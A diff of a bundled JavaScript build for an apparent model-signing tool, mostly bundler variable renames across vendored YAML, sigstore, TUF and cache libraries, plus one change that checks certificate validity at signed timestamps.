+    visit.parentCollection = (cst, path26) => {
+      const parent = visit.itemAtPath(cst, path26.slice(0, -1));
+      const field = path26[path26.length - 1][0];
       const coll = parent?.[field];
       if (coll && "items" in coll)
         return coll;
       throw new Error("Parent collection not found");
     };
-    function _visit(path25, item, visitor) {
-      let ctrl = visitor(item, path25);
+    function _visit(path26, item, visitor) {
+      let ctrl = visitor(item, path26);
       if (typeof ctrl === "symbol")
         return ctrl;
       for (const field of ["key", "value"]) {
         const token = item[field];
         if (token && "items" in token) {
           for (let i = 0; i < token.items.length; ++i) {
-            const ci2 = _visit(Object.freeze(path25.concat([[field, i]])), token.items[i], visitor);
+            const ci2 = _visit(Object.freeze(path26.concat([[field, i]])), token.items[i], visitor);
             if (typeof ci2 === "number")
               i = ci2 - 1;
             else if (ci2 === BREAK)
@@ -13020,10 +13036,10 @@ var require_cst_visit = __commonJS({
             }
           }
           if (typeof ctrl === "function" && field === "key")
-            ctrl = ctrl(item, path25);
+            ctrl = ctrl(item, path26);
         }
       }
-      return typeof ctrl === "function" ? ctrl(item, path25) : ctrl;
+      return typeof ctrl === "function" ? ctrl(item, path26) : ctrl;
     }
     exports.visit = visit;
   }
@@ -16843,16 +16859,16 @@ function canonicalId(token) {
   if (lower.startsWith("licenseref-") && lower.length > "licenseref-".length) return { id: refId(lower.slice("licenseref-".length)), known: true };
   return { id: refId(lower), known: false };
 }
-function licenseTokens(text) {
-  return text.split(/(\(|\)|\s+)/).filter((t) => t !== "" && !/^\s+$/.test(t));
+function licenseTokens(text2) {
+  return text2.split(/(\(|\)|\s+)/).filter((t) => t !== "" && !/^\s+$/.test(t));
 }
 function normalizeLicense(raw) {
   if (raw !== void 0 && raw !== null && typeof raw !== "string") return { raw: JSON.stringify(raw)?.slice(0, 80) ?? typeof raw, spdx: void 0, node: void 0, known: false };
-  const text = typeof raw === "string" ? raw.trim() : "";
-  if (text === "") return { raw: NO_LICENSE, spdx: refId(NO_LICENSE), node: { license: refId(NO_LICENSE) }, known: false };
-  const bad5 = { raw: text, spdx: void 0, node: void 0, known: false };
-  if (text.length > MAX_LICENSE_LENGTH) return bad5;
-  const tokens = licenseTokens(text);
+  const text2 = typeof raw === "string" ? raw.trim() : "";
+  if (text2 === "") return { raw: NO_LICENSE, spdx: refId(NO_LICENSE), node: { license: refId(NO_LICENSE) }, known: false };
+  const bad5 = { raw: text2, spdx: void 0, node: void 0, known: false };
+  if (text2.length > MAX_LICENSE_LENGTH) return bad5;
+  const tokens = licenseTokens(text2);
   const out2 = [];
   let known = true;
   for (let i = 0; i < tokens.length; i++) {
@@ -16874,7 +16890,7 @@ function normalizeLicense(raw) {
   }
   const spdx = out2.join(" ").replace(/\( /g, "(").replace(/ \)/g, ")");
   try {
-    return { raw: text, spdx, node: (0, import_spdx_expression_parse.default)(spdx), known };
+    return { raw: text2, spdx, node: (0, import_spdx_expression_parse.default)(spdx), known };
   } catch {
     return bad5;
   }
@@ -16908,9 +16924,9 @@ function evaluateLicense(lic, rule) {
   for (const choice of opts) {
     const blocked = [];
     for (const t of choice) {
-      const text = termText(t);
-      if (rule.deny.some((d) => matches(text, d))) blocked.push({ term: text, reason: "denied" });
-      else if (!rule.allow.some((a) => matches(text, a))) blocked.push({ term: text, reason: t.license.startsWith("LicenseRef-") && !isNamedRef(t.license) ? "unknown" : "not-allowed" });
+      const text2 = termText(t);
+      if (rule.deny.some((d) => matches(text2, d))) blocked.push({ term: text2, reason: "denied" });
+      else if (!rule.allow.some((a) => matches(text2, a))) blocked.push({ term: text2, reason: t.license.startsWith("LicenseRef-") && !isNamedRef(t.license) ? "unknown" : "not-allowed" });
     }
     if (blocked.length === 0) return { ok: true, spdx: lic.spdx };
     for (const b2 of blocked) if (!blockers.has(b2.term)) blockers.set(b2.term, b2);
@@ -16924,17 +16940,17 @@ function displayId(term) {
   return term.startsWith("LicenseRef-") ? term.slice("LicenseRef-".length) : term;
 }
 function licenseProblem(raw) {
-  const text = raw.trim();
-  const shown = JSON.stringify(clean(text, 100));
+  const text2 = raw.trim();
+  const shown = JSON.stringify(clean(text2, 100));
   const expected = 'expected a Hugging Face license id (apache-2.0, mit, llama3, other), an SPDX expression ("MIT OR Apache-2.0"), or LicenseRef-NAME for a license of your own';
-  if (text === "") return `--license is empty; ${expected}`;
-  if (text.toLowerCase() === NO_LICENSE) return void 0;
-  const lic = normalizeLicense(text);
+  if (text2 === "") return `--license is empty; ${expected}`;
+  if (text2.toLowerCase() === NO_LICENSE) return void 0;
+  const lic = normalizeLicense(text2);
   if (!lic.spdx) return `--license ${shown} is neither a known license id nor a valid SPDX expression, so a policy can only treat it as unknown; ${expected}`;
-  const ids = licenseTokens(text).filter((t) => !["(", ")", "AND", "OR", "WITH"].includes(t.toUpperCase()));
+  const ids = licenseTokens(text2).filter((t) => !["(", ")", "AND", "OR", "WITH"].includes(t.toUpperCase()));
   const unknown = ids.filter((t) => canonicalId(t)?.known === false && !SPDX_EXCEPTIONS.has(t.toLowerCase()));
   if (unknown.length > 0) {
-    const subject = unknown.length === 1 && unknown[0] === text ? `--license ${shown} is` : `--license ${shown}: ${unknown.map((u2) => JSON.stringify(clean(u2, 60))).join(", ")} ${unknown.length === 1 ? "is" : "are"}`;
+    const subject = unknown.length === 1 && unknown[0] === text2 ? `--license ${shown} is` : `--license ${shown}: ${unknown.map((u2) => JSON.stringify(clean(u2, 60))).join(", ")} ${unknown.length === 1 ? "is" : "are"}`;
     return `${subject} neither a Hugging Face license id nor an SPDX license id, so a policy can only treat it as unknown; ${expected}`;
   }
   const family = ids.map((t) => t.toLowerCase()).find((t) => Object.hasOwn(FAMILIES, t));
@@ -17257,8 +17273,8 @@ function findDuplicateKey(node, at2) {
   }
   return void 0;
 }
-function parsePolicyText(text, file) {
-  const doc = (0, import_yaml.parseDocument)(text, { uniqueKeys: false, schema: "core", prettyErrors: true, strict: true });
+function parsePolicyText(text2, file) {
+  const doc = (0, import_yaml.parseDocument)(text2, { uniqueKeys: false, schema: "core", prettyErrors: true, strict: true });
   const problem = doc.errors[0] ?? doc.warnings[0];
   if (problem) {
     const line = problem.linePos?.[0] ? `line ${problem.linePos[0].line}: ` : "";
@@ -17278,10 +17294,10 @@ function parsePolicyText(text, file) {
   return validatePolicy(value ?? {}, file);
 }
 async function loadPolicy(file) {
-  let text;
+  let text2;
   try {
     const buf = await readRegularFile(file, MAX_POLICY_BYTES);
-    text = new TextDecoder("utf-8", { fatal: true }).decode(buf);
+    text2 = new TextDecoder("utf-8", { fatal: true }).decode(buf);
   } catch (e) {
     if (e instanceof NotRegularFile) {
       throw new ModelsignError("POLICY_UNREADABLE", `cannot read policy ${file}: it ${e.isDirectory ? "is a directory, not a regular file" : "is not a regular file"}`, { kind: "usage" });
@@ -17291,7 +17307,7 @@ async function loadPolicy(file) {
     const code = errnoCode(e);
     throw new ModelsignError("POLICY_UNREADABLE", `cannot read policy ${file}: ${code === "ENOENT" ? "no such file" : code ?? e.message}`, { kind: "usage" });
   }
-  return parsePolicyText(text, file);
+  return parsePolicyText(text2, file);
 }
 var import_semver2, import_yaml, MAX_POLICY_BYTES, MAX_REGEXP_LENGTH, Reader;
 var init_load = __esm({
@@ -17809,12 +17825,12 @@ var require_crypto = __commonJS({
       return mod && mod.__esModule ? mod : { "default": mod };
     };
     Object.defineProperty(exports, "__esModule", { value: true });
-    exports.createPublicKey = createPublicKey3;
+    exports.createPublicKey = createPublicKey5;
     exports.digest = digest;
     exports.verify = verify;
     exports.bufferEqual = bufferEqual;
     var crypto_1 = __importDefault(__require("crypto"));
-    function createPublicKey3(key, type = "spki") {
+    function createPublicKey5(key, type = "spki") {
       if (typeof key === "string") {
         if (key.startsWith("-----")) {
           return crypto_1.default.createPublicKey(key);
@@ -17940,18 +17956,18 @@ var require_pem = __commonJS({
     var PEM_HEADER = /-----BEGIN (.*)-----/;
     var PEM_FOOTER = /-----END (.*)-----/;
     function toDER(certificate) {
-      let der = "";
+      let der2 = "";
       certificate.split("\n").forEach((line) => {
         if (line.match(PEM_HEADER) || line.match(PEM_FOOTER)) {
           return;
         }
-        der += line;
+        der2 += line;
       });
-      return Buffer.from(der, "base64");
+      return Buffer.from(der2, "base64");
     }
     function fromDER(certificate, type = "CERTIFICATE") {
-      const der = certificate.toString("base64");
-      const lines = der.match(/.{1,64}/g) || "";
+      const der2 = certificate.toString("base64");
+      const lines = der2.match(/.{1,64}/g) || "";
       return [`-----BEGIN ${type}-----`, ...lines, `-----END ${type}-----`].join("\n").concat("\n");
     }
   }
@@ -18133,8 +18149,8 @@ var require_timestamp2 = __commonJS({
       constructor(asn1) {
         this.root = asn1;
       }
-      static parse(der) {
-        const asn1 = asn1_1.ASN1Obj.parseBuffer(der);
+      static parse(der2) {
+        const asn1 = asn1_1.ASN1Obj.parseBuffer(der2);
         return new _RFC3161Timestamp(asn1);
       }
       get status() {
@@ -18608,14 +18624,14 @@ var require_cert = __commonJS({
     var EXTENSION_OID_BASIC_CONSTRAINTS = "2.5.29.19";
     var EXTENSION_OID_AUTHORITY_KEY_ID = "2.5.29.35";
     exports.EXTENSION_OID_SCT = "1.3.6.1.4.1.11129.2.4.2";
-    var X509Certificate4 = class _X509Certificate {
+    var X509Certificate6 = class _X509Certificate {
       root;
       constructor(asn1) {
         this.root = asn1;
       }
       static parse(cert) {
-        const der = typeof cert === "string" ? pem.toDER(cert) : cert;
-        const asn1 = asn1_1.ASN1Obj.parseBuffer(der);
+        const der2 = typeof cert === "string" ? pem.toDER(cert) : cert;
+        const asn1 = asn1_1.ASN1Obj.parseBuffer(der2);
         return new _X509Certificate(asn1);
       }
       get tbsCertificate() {
@@ -18713,9 +18729,9 @@ var require_cert = __commonJS({
       }
       // Creates a copy of the certificate with a new buffer
       clone() {
-        const der = this.root.toDER();
-        const clone = Buffer.alloc(der.length);
-        der.copy(clone);
+        const der2 = this.root.toDER();
+        const clone = Buffer.alloc(der2.length);
+        der2.copy(clone);
         return _X509Certificate.parse(clone);
       }
       findExtension(oid) {
@@ -18768,7 +18784,7 @@ var require_cert = __commonJS({
         return this.tbsCertificateObj.subs.find((sub) => sub.tag.isContextSpecific(3));
       }
     };
-    exports.X509Certificate = X509Certificate4;
+    exports.X509Certificate = X509Certificate6;
   }
 });
 
@@ -18895,9 +18911,9 @@ async function loadRoots(file) {
 function name(c) {
   return (c.subject ?? "").replace(/\n/g, ", ") || c.subjectAltName || "(empty subject)";
 }
-function parseBundleCert(der, i) {
+function parseBundleCert(der2, i) {
   try {
-    return { node: new X509Certificate2(der), sig: core.X509Certificate.parse(Buffer.from(der)) };
+    return { node: new X509Certificate2(der2), sig: core.X509Certificate.parse(Buffer.from(der2)) };
   } catch (e) {
     throw reject("CERT_MALFORMED", `certificate ${i} in the signature cannot be parsed: ${e.message}`);
   }
@@ -18967,7 +18983,7 @@ async function certificateChainTrust(rootFiles) {
   return {
     kind: "certificate",
     label,
-    async verify(bundle, pae2) {
+    async verify(bundle, pae2, context) {
       const m2 = bundle.material;
       if (m2.kind === "publicKey") {
         throw reject("SIG_WRONG_MATERIAL", "signature was made with a public key, not a certificate; verify it with --key");
@@ -18975,7 +18991,7 @@ async function certificateChainTrust(rootFiles) {
       const ders = m2.kind === "certificate" ? [m2.certificate] : m2.certificates;
       const parsed = ders.map((d, i) => parseBundleCert(d, i));
       const leaf = parsed[0];
-      const at2 = /* @__PURE__ */ new Date();
+      const times = context?.signedTimes?.length ? context.signedTimes : [/* @__PURE__ */ new Date()];
       const { path: chain, root } = buildPath(
         leaf.node,
         parsed.slice(1).map((p2) => p2.node),
@@ -18985,8 +19001,10 @@ async function certificateChainTrust(rootFiles) {
         const problem = caProblem(sigstoreView(root.cert), chain.length - 1);
         if (problem) throw reject("CERT_CHAIN_INVALID", `root certificate "${name(root.cert)}" ${problem}`);
       }
-      chain.forEach((c, i) => checkValidity(c, at2, i === 0 ? "signing" : "intermediate"));
-      checkValidity(root.cert, at2, "root");
+      for (const at2 of times) {
+        chain.forEach((c, i) => checkValidity(c, at2, i === 0 ? "signing" : "intermediate"));
+        checkValidity(root.cert, at2, "root");
+      }
       if (!canSign(leaf.sig)) {
         throw reject("CERT_USAGE", `signing certificate "${name(leaf.node)}" is not allowed to sign (needs key usage digitalSignature or extended key usage codeSigning)`);
       }
@@ -20664,15 +20682,15 @@ var require_certificate = __commonJS({
       sort() {
         const leafCert = this.untrustedCert;
         let paths = this.buildPaths(leafCert);
-        paths = paths.filter((path26) => path26.some((cert) => this.trustedCerts.includes(cert)));
+        paths = paths.filter((path27) => path27.some((cert) => this.trustedCerts.includes(cert)));
         if (paths.length === 0) {
           throw new error_1.VerificationError({
             code: "CERTIFICATE_ERROR",
             message: "no trusted certificate path found"
           });
         }
-        const path25 = paths.reduce((prev, curr) => prev.length < curr.length ? prev : curr);
-        return [leafCert, ...path25].slice(0, -1);
+        const path26 = paths.reduce((prev, curr) => prev.length < curr.length ? prev : curr);
+        return [leafCert, ...path26].slice(0, -1);
       }
       // Recursively build all possible paths from the leaf to the root
       buildPaths(certificate) {
@@ -20731,30 +20749,30 @@ var require_certificate = __commonJS({
         });
         return issuers;
       }
-      checkPath(path25) {
-        if (path25.length < 1) {
+      checkPath(path26) {
+        if (path26.length < 1) {
           throw new error_1.VerificationError({
             code: "CERTIFICATE_ERROR",
             message: "certificate chain must contain at least one certificate"
           });
         }
-        const validCAs = path25.slice(1).every((cert) => cert.isCA);
+        const validCAs = path26.slice(1).every((cert) => cert.isCA);
         if (!validCAs) {
           throw new error_1.VerificationError({
             code: "CERTIFICATE_ERROR",
             message: "intermediate certificate is not a CA"
           });
         }
-        for (let i = path25.length - 2; i >= 0; i--) {
-          if (!path25[i].issuer.equals(path25[i + 1].subject)) {
+        for (let i = path26.length - 2; i >= 0; i--) {
+          if (!path26[i].issuer.equals(path26[i + 1].subject)) {
             throw new error_1.VerificationError({
               code: "CERTIFICATE_ERROR",
               message: "incorrect certificate name chaining"
             });
           }
         }
-        for (let i = 0; i < path25.length; i++) {
-          const cert = path25[i];
+        for (let i = 0; i < path26.length; i++) {
+          const cert = path26[i];
           if (cert.extBasicConstraints?.isCA) {
             const pathLength = cert.extBasicConstraints.pathLenConstraint;
             if (pathLength !== void 0 && pathLength < i - 1) {
@@ -20858,13 +20876,13 @@ var require_key = __commonJS({
       return { key: key.publicKey };
     }
     function verifyCertificate(leaf, timestamps, trustMaterial) {
-      let path25 = [];
+      let path26 = [];
       timestamps.forEach((timestamp) => {
-        path25 = (0, certificate_1.verifyCertificateChain)(timestamp, leaf, trustMaterial.certificateAuthorities);
+        path26 = (0, certificate_1.verifyCertificateChain)(timestamp, leaf, trustMaterial.certificateAuthorities);
       });
       return {
-        scts: (0, sct_1.verifySCTs)(path25[0], path25[1], trustMaterial.ctlogs),
-        signer: getSigner(path25[0])
+        scts: (0, sct_1.verifySCTs)(path26[0], path26[1], trustMaterial.ctlogs),
+        signer: getSigner(path26[0])
       };
     }
     function getSigner(cert) {
@@ -22430,7 +22448,7 @@ var require_file = __commonJS({
           ...this.unrecognizedFields
         };
       }
-      static fromJSON(path25, data) {
+      static fromJSON(path26, data) {
         const { length, hashes, ...rest } = data;
         if (typeof length !== "number") {
           throw new TypeError("length must be a number");
@@ -22440,7 +22458,7 @@ var require_file = __commonJS({
         }
         return new _TargetFile({
           length,
-          path: path25,
+          path: path26,
           hashes,
           unrecognizedFields: rest
         });
@@ -22470,8 +22488,8 @@ var require_oid2 = __commonJS({
         const bytes = encodeVariableLengthInteger(parseInt(part, 10));
         rest.push(...bytes);
       });
-      const der = Buffer.from([first, ...rest]);
-      return Buffer.from([ANS1_TAG_OID, der.length, ...der]);
+      const der2 = Buffer.from([first, ...rest]);
+      return Buffer.from([ANS1_TAG_OID, der2.length, ...der2]);
     }
     function encodeVariableLengthInteger(value) {
       const bytes = [];
@@ -22585,12 +22603,12 @@ var require_key2 = __commonJS({
             key
           ])
         ]);
-        const der = Buffer.concat([
+        const der2 = Buffer.concat([
           Buffer.from([ASN1_TAG_SEQUENCE]),
           Buffer.from([elements.length]),
           elements
         ]);
-        return der;
+        return der2;
       }
     };
     var ecdsa = {
@@ -22611,13 +22629,13 @@ var require_key2 = __commonJS({
           Buffer.from([oids.length]),
           oids
         ]);
-        const der = Buffer.concat([
+        const der2 = Buffer.concat([
           Buffer.from([ASN1_TAG_SEQUENCE]),
           Buffer.from([oidSequence.length + bitString.length]),
           oidSequence,
           bitString
         ]);
-        return der;
+        return der2;
       }
     };
     var isHex = (key) => /^[0-9a-fA-F]+$/.test(key);
@@ -24015,11 +24033,11 @@ var require_commonjs3 = __commonJS({
       return (f2) => f2.length === len && f2 !== "." && f2 !== "..";
     };
     var defaultPlatform = typeof process === "object" && process ? typeof process.env === "object" && process.env && process.env.__MINIMATCH_TESTING_PLATFORM__ || process.platform : "posix";
-    var path25 = {
+    var path26 = {
       win32: { sep: "\\" },
       posix: { sep: "/" }
     };
-    exports.sep = defaultPlatform === "win32" ? path25.win32.sep : path25.posix.sep;
+    exports.sep = defaultPlatform === "win32" ? path26.win32.sep : path26.posix.sep;
     exports.minimatch.sep = exports.sep;
     exports.GLOBSTAR = Symbol("globstar **");
     exports.minimatch.GLOBSTAR = exports.GLOBSTAR;
@@ -25247,9 +25265,9 @@ var require_snapshot = __commonJS({
     };
     exports.Snapshot = Snapshot;
     function metaToJSON(meta) {
-      return Object.entries(meta).reduce((acc, [path25, metadata]) => ({
+      return Object.entries(meta).reduce((acc, [path26, metadata]) => ({
         ...acc,
-        [path25]: metadata.toJSON()
+        [path26]: metadata.toJSON()
       }), {});
     }
     function metaFromJSON(data) {
@@ -25258,9 +25276,9 @@ var require_snapshot = __commonJS({
         if (!utils_1.guard.isObjectRecord(data)) {
           throw new TypeError("meta field is malformed");
         } else {
-          meta = Object.entries(data).reduce((acc, [path25, metadata]) => ({
+          meta = Object.entries(data).reduce((acc, [path26, metadata]) => ({
             ...acc,
-            [path25]: file_1.MetaFile.fromJSON(metadata)
+            [path26]: file_1.MetaFile.fromJSON(metadata)
           }), {});
         }
       }
@@ -25442,9 +25460,9 @@ var require_targets = __commonJS({
     };
     exports.Targets = Targets;
     function targetsToJSON(targets) {
-      return Object.entries(targets).reduce((acc, [path25, target]) => ({
+      return Object.entries(targets).reduce((acc, [path26, target]) => ({
         ...acc,
-        [path25]: target.toJSON()
+        [path26]: target.toJSON()
       }), {});
     }
     function targetsFromJSON(data) {
@@ -25453,9 +25471,9 @@ var require_targets = __commonJS({
         if (!utils_1.guard.isObjectRecord(data)) {
           throw new TypeError("targets must be an object");
         } else {
-          targets = Object.entries(data).reduce((acc, [path25, target]) => ({
+          targets = Object.entries(data).reduce((acc, [path26, target]) => ({
             ...acc,
-            [path25]: file_1.TargetFile.fromJSON(path25, target)
+            [path26]: file_1.TargetFile.fromJSON(path26, target)
           }), {});
         }
       }
@@ -31601,7 +31619,7 @@ var require_lib2 = __commonJS({
       var trail = encoder.end();
       return trail && trail.length > 0 ? Buffer2.concat([res, trail]) : res;
     };
-    module.exports.decode = function decode(buf, encoding, options) {
+    module.exports.decode = function decode2(buf, encoding, options) {
       if (typeof buf === "string") {
         if (!module.exports.skipDecodeWarning) {
           console.error("Iconv-lite warning: decode()-ing strings is deprecated. Refer to https://github.com/ashtuchkin/iconv-lite/wiki/Use-Buffers-when-decoding");
@@ -31725,9 +31743,9 @@ var require_body = __commonJS({
     var Blob = require_blob();
     var { BUFFER } = Blob;
     var FetchError = require_fetch_error();
-    var decode;
+    var decode2;
     try {
-      decode = require_lib2().decode;
+      decode2 = require_lib2().decode;
     } catch (e) {
     }
     var INTERNALS = Symbol("Body internals");
@@ -31784,7 +31802,7 @@ var require_body = __commonJS({
         return this[CONSUME_BODY]();
       }
       textConverted() {
-        if (typeof decode !== "function") {
+        if (typeof decode2 !== "function") {
           throw new Error("The package `iconv-lite` must be installed to use the textConverted() function");
         }
         return this[CONSUME_BODY]().then((buf) => convertBody(buf, this.headers));
@@ -31933,7 +31951,7 @@ var require_body = __commonJS({
       }
       charset = charset.toString().trim().replace(/^latin[-_]?(\d+)$/i, "ISO-8859-$1").replace(/^win(?:dows)?[-_]?(\d+)$/i, "WINDOWS-$1").replace(/^utf[-_]?(\d+)$/i, "UTF-$1").replace(/^ks_c_5601-1987$/i, "CP949").replace(/^us[-_]?ascii$/i, "ASCII").toUpperCase();
       try {
-        return decode(buffer, charset).toString();
+        return decode2(buffer, charset).toString();
       } catch {
         return buffer.toString("UTF-8");
       }
@@ -32570,7 +32588,7 @@ var require_lib3 = __commonJS({
     var { getNodeRequestOptions } = Request;
     var FetchError = require_fetch_error();
     var AbortError = require_abort_error();
-    var fetch = async (url, opts) => {
+    var fetch2 = async (url, opts) => {
       if (/^data:/.test(url)) {
         const request = new Request(url, opts);
         return Promise.resolve().then(() => new Promise((resolve, reject2) => {
@@ -32658,7 +32676,7 @@ var require_lib3 = __commonJS({
         req.on("response", (res) => {
           clearTimeout(reqTimeout);
           const headers = createHeadersLenient(res.headers);
-          if (fetch.isRedirect(res.statusCode)) {
+          if (fetch2.isRedirect(res.statusCode)) {
             const location = headers.get("Location");
             let locationURL = null;
             try {
@@ -32719,7 +32737,7 @@ var require_lib3 = __commonJS({
                 requestOpts.body = void 0;
                 requestOpts.headers.delete("content-length");
               }
-              resolve(fetch(new Request(locationURL, requestOpts)));
+              resolve(fetch2(new Request(locationURL, requestOpts)));
               finalize();
               return;
             }
@@ -32805,13 +32823,13 @@ var require_lib3 = __commonJS({
         writeToStream(req, request);
       });
     };
-    module.exports = fetch;
-    fetch.isRedirect = (code) => code === 301 || code === 302 || code === 303 || code === 307 || code === 308;
-    fetch.Headers = Headers;
-    fetch.Request = Request;
-    fetch.Response = Response;
-    fetch.FetchError = FetchError;
-    fetch.AbortError = AbortError;
+    module.exports = fetch2;
+    fetch2.isRedirect = (code) => code === 301 || code === 302 || code === 303 || code === 307 || code === 308;
+    fetch2.Headers = Headers;
+    fetch2.Request = Request;
+    fetch2.Response = Response;
+    fetch2.FetchError = FetchError;
+    fetch2.AbortError = AbortError;
   }
 });
 
@@ -36199,8 +36217,8 @@ var require_polyfill = __commonJS({
       );
     }
     function getValidatedPath(fileURLOrPath) {
-      const path25 = fileURLOrPath != null && fileURLOrPath.href && fileURLOrPath.origin ? fileURLToPath3(fileURLOrPath) : fileURLOrPath;
-      return path25;
+      const path26 = fileURLOrPath != null && fileURLOrPath.href && fileURLOrPath.origin ? fileURLToPath3(fileURLOrPath) : fileURLOrPath;
+      return path26;
     }
     async function cpFn(src, dest, opts) {
       if (opts.preserveTimestamps && process.arch === "ia32") {
@@ -36309,7 +36327,7 @@ var require_polyfill = __commonJS({
       }
       return checkParentPaths(src, srcStat, destParent);
     }
-    var normalizePathToArray = (path25) => resolve(path25).split(sep).filter(Boolean);
+    var normalizePathToArray = (path26) => resolve(path26).split(sep).filter(Boolean);
     function isSrcSubdir(src, dest) {
       const srcArr = normalizePathToArray(src);
       const destArr = normalizePathToArray(dest);
@@ -36560,9 +36578,9 @@ var require_move_file = __commonJS({
   "node_modules/@npmcli/fs/lib/move-file.js"(exports, module) {
     var { dirname, join: join2, resolve, relative, isAbsolute } = __require("path");
     var fs2 = __require("fs/promises");
-    var pathExists = async (path25) => {
+    var pathExists = async (path26) => {
       try {
-        await fs2.access(path25);
+        await fs2.access(path26);
         return true;
       } catch (er2) {
         return er2.code !== "ENOENT";
@@ -36650,17 +36668,17 @@ var require_tmp = __commonJS({
     var crypto = __require("crypto");
     var { withTempDir } = require_lib5();
     var fs2 = __require("fs/promises");
-    var path25 = __require("path");
+    var path26 = __require("path");
     module.exports.mkdir = mktmpdir;
     module.exports.tmpName = function tmpName(cache, tmpPrefix) {
       const id2 = crypto.randomUUID();
-      return path25.join(cache, "tmp", tmpPrefix ? `${tmpPrefix}-${id2}` : id2);
+      return path26.join(cache, "tmp", tmpPrefix ? `${tmpPrefix}-${id2}` : id2);
     };
     async function mktmpdir(cache, opts = {}) {
       const { tmpPrefix } = opts;
-      const tmpDir = path25.join(cache, "tmp");
+      const tmpDir = path26.join(cache, "tmp");
       await fs2.mkdir(tmpDir, { recursive: true, owner: "inherit" });
-      const target = `${tmpDir}${path25.sep}${tmpPrefix || ""}`;
+      const target = `${tmpDir}${path26.sep}${tmpPrefix || ""}`;
       return fs2.mkdtemp(target, { owner: "inherit" });
     }
     module.exports.withTmp = withTmp;
@@ -36669,7 +36687,7 @@ var require_tmp = __commonJS({
         cb = opts;
         opts = {};
       }
-      return withTempDir(path25.join(cache, "tmp"), cb, opts);
+      return withTempDir(path26.join(cache, "tmp"), cb, opts);
     }
   }
 });
@@ -36778,12 +36796,12 @@ var require_path = __commonJS({
     "use strict";
     var contentVer = require_package2()["cache-version"].content;
     var hashToSegments = require_hash_to_segments();
-    var path25 = __require("path");
+    var path26 = __require("path");
     var ssri = require_lib4();
     module.exports = contentPath;
     function contentPath(cache, integrity) {
       const sri = ssri.parse(integrity, { single: true });
-      return path25.join(
+      return path26.join(
         contentDir(cache),
         sri.algorithm,
         ...hashToSegments(sri.hexDigest())
@@ -36791,7 +36809,7 @@ var require_path = __commonJS({
     }
     module.exports.contentDir = contentDir;
     function contentDir(cache) {
-      return path25.join(cache, `content-v${contentVer}`);
+      return path26.join(cache, `content-v${contentVer}`);
     }
   }
 });
@@ -37262,7 +37280,7 @@ var require_entry_index = __commonJS({
       writeFile: writeFile5
     } = __require("fs/promises");
     var { Minipass } = require_commonjs4();
-    var path25 = __require("path");
+    var path26 = __require("path");
     var ssri = require_lib4();
     var { tmpName } = require_tmp();
     var contentPath = require_path();
@@ -37299,7 +37317,7 @@ var require_entry_index = __commonJS({
       }).join("\n");
       const setup = async () => {
         const target = tmpName(cache, opts.tmpPrefix);
-        await mkdir6(path25.dirname(target), { recursive: true });
+        await mkdir6(path26.dirname(target), { recursive: true });
         return {
           target,
           moved: false
@@ -37312,7 +37330,7 @@ var require_entry_index = __commonJS({
       };
       const write = async (tmp2) => {
         await writeFile5(tmp2.target, newIndex, { flag: "wx" });
-        await mkdir6(path25.dirname(bucket), { recursive: true });
+        await mkdir6(path26.dirname(bucket), { recursive: true });
         await moveFile(tmp2.target, bucket);
         tmp2.moved = true;
       };
@@ -37336,7 +37354,7 @@ var require_entry_index = __commonJS({
         metadata
       };
       try {
-        await mkdir6(path25.dirname(bucket), { recursive: true });
+        await mkdir6(path26.dirname(bucket), { recursive: true });
         const stringified = JSON.stringify(entry);
         await appendFile2(bucket, `
 ${hashEntry(stringified)}	${stringified}`);
@@ -37386,17 +37404,17 @@ ${hashEntry(stringified)}	${stringified}`);
         await pMap2(
           buckets,
           async (bucket) => {
-            const bucketPath2 = path25.join(indexDir, bucket);
+            const bucketPath2 = path26.join(indexDir, bucket);
             const subbuckets = await readdirOrEmpty(bucketPath2);
             await pMap2(
               subbuckets,
               async (subbucket) => {
-                const subbucketPath = path25.join(bucketPath2, subbucket);
+                const subbucketPath = path26.join(bucketPath2, subbucket);
                 const subbucketEntries = await readdirOrEmpty(subbucketPath);
                 await pMap2(
                   subbucketEntries,
                   async (entry) => {
-                    const entryPath = path25.join(subbucketPath, entry);
+                    const entryPath = path26.join(subbucketPath, entry);
                     try {
                       const entries = await bucketEntries(entryPath);
                       const reduced = entries.reduce((acc, entry2) => {
@@ -37465,13 +37483,13 @@ ${hashEntry(stringified)}	${stringified}`);
     }
     module.exports.bucketDir = bucketDir;
     function bucketDir(cache) {
-      return path25.join(cache, `index-v${indexV}`);
+      return path26.join(cache, `index-v${indexV}`);
     }
     module.exports.bucketPath = bucketPath;
     function bucketPath(cache, key) {
       const hashed = hashKey(key);
-      return path25.join.apply(
-        path25,
+      return path26.join.apply(
+        path26,
         [bucketDir(cache)].concat(hashToSegments(hashed))
       );
     }
@@ -38217,17 +38235,17 @@ var require_lib6 = __commonJS({
     var _defaultFlag = Symbol("_defaultFlag");
     var _errored = Symbol("_errored");
     var ReadStream = class extends Minipass {
-      constructor(path25, opt) {
+      constructor(path26, opt) {
         opt = opt || {};
         super(opt);
         this.readable = true;
         this.writable = false;
-        if (typeof path25 !== "string") {
+        if (typeof path26 !== "string") {
           throw new TypeError("path must be a string");
         }
         this[_errored] = false;
         this[_fd] = typeof opt.fd === "number" ? opt.fd : null;
-        this[_path] = path25;
+        this[_path] = path26;
         this[_readSize] = opt.readSize || 16 * 1024 * 1024;
         this[_reading] = false;
         this[_size] = typeof opt.size === "number" ? opt.size : Infinity;
@@ -38373,7 +38391,7 @@ var require_lib6 = __commonJS({
       }
     };
     var WriteStream = class extends EE {
-      constructor(path25, opt) {
+      constructor(path26, opt) {
         opt = opt || {};
         super(opt);
         this.readable = false;
@@ -38383,7 +38401,7 @@ var require_lib6 = __commonJS({
         this[_ended] = false;
         this[_needDrain] = false;
         this[_queue] = [];
-        this[_path] = path25;
+        this[_path] = path26;
         this[_fd] = typeof opt.fd === "number" ? opt.fd : null;
         this[_mode] = opt.mode === void 0 ? 438 : opt.mode;
         this[_pos] = typeof opt.start === "number" ? opt.start : null;
@@ -38691,11 +38709,11 @@ var require_read = __commonJS({
       err.code = "EBADSIZE";
       return err;
     }
-    function integrityError(sri, path25) {
-      const err = new Error(`Integrity verification failed for ${sri} (${path25})`);
+    function integrityError(sri, path26) {
+      const err = new Error(`Integrity verification failed for ${sri} (${path26})`);
       err.code = "EINTEGRITY";
       err.sri = sri;
-      err.path = path25;
+      err.path = path26;
       return err;
     }
   }
@@ -38863,7 +38881,7 @@ var require_write = __commonJS({
     var { Minipass } = require_commonjs4();
     var Pipeline = require_minipass_pipeline();
     var Flush = require_minipass_flush();
-    var path25 = __require("path");
+    var path26 = __require("path");
     var ssri = require_lib4();
     var { tmpName } = require_tmp();
     var fsm = require_lib6();
